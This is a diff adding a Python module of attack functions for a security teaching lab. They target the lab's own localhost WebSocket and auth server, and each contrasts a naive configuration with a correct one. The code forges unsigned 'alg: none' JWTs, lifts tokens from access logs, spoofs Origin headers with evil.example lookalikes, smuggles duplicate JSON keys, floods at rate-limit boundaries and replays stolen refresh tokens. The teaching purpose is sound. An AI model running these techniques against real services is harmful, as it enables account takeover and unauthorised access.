@@ -1,0 +1,260 @@
+"""Attacks on a lab's own server: each is a function that says how far it came.
+
+They succeed against ``Lab(security="naive")`` and fail against ``Lab(security="right")``. Nothing
+leaves this machine: the lab listens on 127.0.0.1.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import re
+import time
+from typing import Any, Final, Literal, NamedTuple
+from urllib.parse import urlsplit
+
+import httpx
+import jwt
+import msgspec
+from websockets.asyncio.client import connect
+from websockets.exceptions import InvalidStatus
+from websockets.typing import Origin
+
+from rtlab.client.tokens import Tokens
+from rtlab.client.websocket_connection import WebSocketConnection
+from rtlab.errors import ConnectFailed, RequestRefused, RtlabError
+from rtlab.lab.lab import Lab
+
+__all__ = [
+    "LogLeak",
+    "StolenRefresh",
+    "call_by_name",
+    "double_key",
+    "flood_at_boundary",
+    "forge_token",
+    "log_in",
+    "origins_admitted",
+    "read_log",
+    "refresh",
+    "reuse_refresh_token",
+    "token_from_log",
+]
+
+#: The lab's demonstration users; see `rtlab.server.auth.users`.
+PASSWORDS: Final = {"ada": "analytical engine", "bob": "builder", "eve": "eavesdropper"}
+
+#: Seconds that anything here may take.
+PATIENCE: Final = 10.0
+
+
+class LogLeak(NamedTuple):
+    """What an access log was worth.
+
+    Parameters
+    ----------
+    line : str
+        The victim's handshake as the log has it; what is long is cut.
+    admitted : int
+        Whether who read the log got in as the victim: 1 or 0.
+    """
+
+    line: str
+    admitted: int
+
+
+class StolenRefresh(NamedTuple):
+    """What became of two who have the same refresh token.
+
+    Parameters
+    ----------
+    story : list of (str, str)
+        Who asked with which token, and what the server said.
+    thief_lives, owner_lives : int
+        Whether each still gets tokens in the end: 1 or 0.
+    closed_with : int
+        The close code of the owner's open connection; 0 while it is open.
+    """
+
+    story: list[tuple[str, str]]
+    thief_lives: int
+    owner_lives: int
+    closed_with: int
+
+
+async def log_in(lab: Lab, user: str) -> dict[str, Any]:
+    """Return the answer to a login of a demonstration user: ``accessToken`` and ``refreshToken``."""
+    return (await _post(lab, "token", {"user": user, "password": PASSWORDS[user]})).raise_for_status().json()
+
+
+async def refresh(lab: Lab, token: str) -> httpx.Response:
+    """Show a refresh token; return the server's answer."""
+    return await _post(lab, "refresh", {"refreshToken": token})
+
+
+async def read_log(lab: Lab) -> list[str]:
+    """Return the server's access log, as who runs the server can."""
+    async with httpx.AsyncClient(timeout=PATIENCE) as http:
+        answer = await http.get(f"{lab.url}/log", headers={"Authorization": f"Bearer {lab.token}"})
+    return answer.raise_for_status().json()
+
+
+async def token_from_log(lab: Lab, way: Literal["query", "ticket"]) -> LogLeak:
+    """Let Ada connect, read the log, and try to come in with what it holds.
+
+    Parameters
+    ----------
+    lab : Lab
+        Naive or right.
+    way : {"query", "ticket"}
+        How Ada's handshake proves who she is.
+    """
+    async with WebSocketConnection(lab.ws_url, auth=Tokens("ada", PASSWORDS["ada"], way=way)):
+        line = [line for line in await read_log(lab) if "GET /ws" in line][-1]
+    found = re.search(r"(token|ticket)=([^&\" ]+)", line)
+    secret = found[0] if found else ""
+    return LogLeak(re.sub(r"(=[\w-]{12})[\w.-]+", r"\1…", line), await _opens(f"{lab.ws_url}?{secret}"))
+
+
+async def forge_token(lab: Lab, user: str = "ada") -> int:
+    """Come in with a token that nobody signed (``alg: none``); return 1 if the server believes it."""
+    token = jwt.encode({"sub": user, "roles": ["staff"]}, "", "none")
+    return await _opens(lab.ws_url, {"Authorization": f"Bearer {token}"})
+
+
+async def call_by_name(lab: Lab, name: str, user: str = "eve") -> str:
+    """Send a message whose type is the name of something that no page should reach.
+
+    Returns
+    -------
+    str
+        What the server answered: its value, or the code of its refusal.
+    """
+    async with WebSocketConnection(lab.ws_url, auth=Tokens(user, PASSWORDS[user])) as conn:
+        try:
+            return str((await conn.request(name)).payload)
+        except RequestRefused as error:
+            return error.code
+
+
+async def origins_admitted(lab: Lab) -> dict[str, int]:
+    """Shake hands under origins that look like the lab's own; return origin → admitted, 1 or 0.
+
+    The first is the lab's own, which must be let in; each of the others is a stranger's.
+    """
+    port = urlsplit(lab.url).port
+    token = (await log_in(lab, "ada"))["accessToken"]
+    origins = {
+        "http://127.0.0.1:PORT": "the lab's own page",
+        "null": "a sandboxed frame, or a file",
+        "http://127.0.0.1.evil.example": "a name that begins right",
+        "http://localhost.evil.example": "another",
+        "http://127.0.0.1:PORT@evil.example": "a user in front of the host",
+        "http://127.0.0.1:1": "another port of this machine",
+    }
+    headers = {"Authorization": f"Bearer {token}"}
+    return {
+        origin: await _opens(lab.ws_url, headers, origin=origin.replace("PORT", str(port)))
+        for origin in origins
+    }
+
+
+async def double_key(lab: Lab) -> int | str:
+    """Order one tea by the first ``quantity`` of a message, and a thousand by its second.
+
+    Returns
+    -------
+    int or str
+        The quantity that arrived in the room, or the code of the refusal.
+    """
+    token = (await log_in(lab, "bob"))["accessToken"]
+    order = '{"type":"order","id":"1","roomId":"shop","payload":{"item":"tea","quantity":1,"quantity":1000}}'
+    headers = {"Authorization": f"Bearer {token}"}
+    async with asyncio.timeout(PATIENCE), connect(lab.ws_url, additional_headers=headers, proxy=None) as ws:
+        await ws.send('{"type":"join_room","id":"0","payload":{"roomId":"shop"}}')
+        await ws.send(order)
+        while True:
+            message = msgspec.json.decode(await ws.recv())
+            if message["type"] == "order":
+                return int(message["payload"]["quantity"])
+            if message["type"] == "error":
+                return str(message["payload"]["code"])
+
+
+async def flood_at_boundary(lab: Lab, burst: int = 150) -> int:
+    """Send two bursts, just before and just after a full second of the server's clock.
+
+    Parameters
+    ----------
+    lab : Lab
+        On this machine: its clock is ours.
+    burst : int
+        Messages of each.
+
+    Returns
+    -------
+    int
+        How many the server took; both batches themselves count, too.
+    """
+    taken = 0
+    items = [{"type": "pong"}] * burst
+    async with asyncio.timeout(PATIENCE), WebSocketConnection(lab.ws_url, auth=_bob()) as conn:
+        for phase in (0.90, 0.04):
+            await asyncio.sleep((phase - time.monotonic()) % 1.0)
+            try:
+                answer = await conn.request("batch", items)
+            except RequestRefused:
+                continue
+            taken += 1 + sum(result["ok"] for result in answer.payload["results"])
+    return taken
+
+
+async def reuse_refresh_token(lab: Lab) -> StolenRefresh:
+    """Let a thief copy Bob's refresh token and use it first; Bob comes second, with the same."""
+    mine = await log_in(lab, "bob")
+    story: list[tuple[str, str]] = []
+    closed = asyncio.get_running_loop().create_future()
+
+    async def ask(who: str, name: str, token: str) -> str:
+        answer = await refresh(lab, token)
+        ok = answer.status_code == 200
+        story.append((who, f"{name}: {'new tokens' if ok else answer.json()['error']['code']}"))
+        return str(answer.json()["refreshToken"]) if ok else token
+
+    auth = Tokens(access_token=mine["accessToken"])
+    async with WebSocketConnection(lab.ws_url, auth=auth, max_reconnect_attempts=0) as conn:
+        conn.on("disconnected", lambda event: closed.done() or closed.set_result(event.code))
+        theirs = await ask("thief", "the stolen token", mine["refreshToken"])
+        ours = await ask("owner", "the same token", mine["refreshToken"])
+        thief = await ask("thief", "the newest token", theirs)
+        owner = await ask("owner", "the newest token", ours)
+        await asyncio.wait((closed,), timeout=0.6)  # the server looks four times a second
+        code = closed.result() if closed.done() else 0
+    lives = [int(answer.endswith("new tokens")) for _, answer in story[-2:]]
+    del thief, owner
+    return StolenRefresh(story, lives[0], lives[1], code)
+
+
+def _bob() -> Tokens:
+    return Tokens("bob", PASSWORDS["bob"])
+
+
+async def _post(lab: Lab, what: str, body: dict[str, str]) -> httpx.Response:
+    async with httpx.AsyncClient(timeout=PATIENCE) as http:
+        return await http.post(f"{lab.url}/api/auth/{what}", json=body)
+
+
+async def _opens(url: str, headers: dict[str, str] | None = None, origin: str | None = None) -> int:
+    """Shake hands; return 1 if the server lets us in, 0 if it says 401 or 403."""
+    given = Origin(origin) if origin is not None else None
+    try:
+        async with (
+            asyncio.timeout(PATIENCE),
+            connect(url, additional_headers=headers, origin=given, proxy=None) as ws,
+        ):
+            await ws.recv()
+            return 1
+    except InvalidStatus as error:
+        if error.response.status_code not in (401, 403):
+            raise RtlabError(f"expected 101, 401 or 403, got {error.response.status_code}") from error
+        return 0
+    except ConnectFailed:
+        return 0
